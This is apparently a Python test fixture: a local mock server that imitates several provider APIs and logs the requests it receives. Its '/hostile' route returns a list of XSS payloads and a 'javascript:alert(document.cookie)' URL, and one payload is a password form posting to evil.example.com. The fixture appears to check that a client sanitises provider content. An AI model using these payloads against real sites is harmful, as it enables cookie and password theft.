"""Providers on one port, distinguished by the first part of the path: /quick, /silent, /hostile, /onboarding, /psi."""

import json
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HOSTILE_INSTRUCTIONS = [
    "Read <b>this</b><script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '<a href="javascript:alert(3)">here</a>',
    "<svg/onload=alert(4)>",
    '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
    '<a href="&#106;avascript:alert(6)">there</a>',
    '<form action="https://evil.example.com"><input name=password></form>',
]
HOSTILE_URL = "javascript:alert(document.cookie)//"


class _Handler(BaseHTTPRequestHandler):
    server: "Providers"
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: Any) -> None:
        """Log nothing."""

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        _, name, path = self.path.split("/", 2)
        self.server.requests.append((name, self.command, path, body.decode()))
        if name == "silent" and self.server.is_silent.is_set():
            self.server.over.wait()
            return
        said = json.dumps(self._said(name, path)).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    do_GET = do_POST = do_PATCH = do_DELETE = _answer

    def _said(self, name: str, path: str) -> Any:
        if "access_token" in path:
            return {"access_token": "token", "expires_in": 3600}
        if name == "psi":
            return {"ssiRecordLocator": f"locator-{uuid.uuid4()}"}
        if self.command == "DELETE":
            return {"status": "deleted"}
        more = {}
        if name == "hostile":
            more = {"instructions": HOSTILE_INSTRUCTIONS, "download_url": HOSTILE_URL}
        elif self.command == "GET":
            more = {"instructions": ["Wait"], "download_url": "https://provider.example.com/"}
        return {"id": uuid.uuid4().hex, "status": "created", "name": name, "rules": {}, **more}


class Providers(ThreadingHTTPServer):
    """All providers; `requests` records (provider, method, path, body)."""

    daemon_threads = True
    request_queue_size = 200

    def __init__(self, port: int) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.requests: list[tuple[str, str, str, str]] = []
        self.is_silent = threading.Event()
        self.over = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def asked(self, name: str, method: str, part: str = "") -> int:
        """Return the number of requests."""
        return sum(
            one[:2] == (name, method) and part in f"/{one[2]}" for one in list(self.requests)
        )

    def close(self) -> None:
        self.over.set()
        self.shutdown()
        self.server_close()
